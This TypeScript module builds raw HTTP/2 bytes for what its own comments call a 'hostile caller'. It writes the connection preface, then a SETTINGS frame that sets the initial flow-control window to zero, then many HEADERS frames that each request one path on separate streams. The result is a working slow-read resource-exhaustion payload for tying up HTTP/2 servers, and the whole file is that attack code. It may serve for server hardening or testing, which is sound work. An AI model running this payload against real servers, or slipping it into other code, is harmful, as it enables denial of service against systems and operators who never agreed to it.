// As much HTTP/2 as a hostile caller needs: it asks, and opens no window for the answers.

const PREFACE = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const [HEADERS, SETTINGS] = [1, 4];
const END_OF_STREAM_AND_HEADERS = 5;
const INITIAL_WINDOW_SIZE = 4;

function frame(type: number, flags: number, stream: number, payload: Uint8Array): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  const view = new DataView(bytes.buffer);
  view.setUint32(0, payload.length << 8 | type);
  view.setUint8(4, flags);
  view.setUint32(5, stream);
  bytes.set(payload, 9);
  return bytes;
}

function settings(): Uint8Array {
  const payload = new Uint8Array(6);
  new DataView(payload.buffer).setUint16(0, INITIAL_WINDOW_SIZE);
  return frame(SETTINGS, 0, 0, payload);
}

/** By HPACK: `:method: GET`, `:scheme: http`, and two literals. */
function get(path: string, authority: string): Uint8Array {
  const literal = (index: number, text: string) => [index, text.length, ...new TextEncoder().encode(text)];
  return Uint8Array.from([0x82, 0x86, ...literal(0x04, path), ...literal(0x01, authority)]);
}

/** A connection that asks so many times for this path, and takes nothing of any answer. */
export function askInVain(path: string, authority: string, streams: number): Uint8Array {
  const asked = Array.from(
    { length: streams },
    (_, i) => frame(HEADERS, END_OF_STREAM_AND_HEADERS, 2 * i + 1, get(path, authority)),
  );
  const parts = [PREFACE, settings(), ...asked];
  const bytes = new Uint8Array(parts.reduce((sum, { length }) => sum + length, 0));
  let at = 0;
  for (const part of parts) {
    bytes.set(part, at);
    at += part.length;
  }
  return bytes;
}
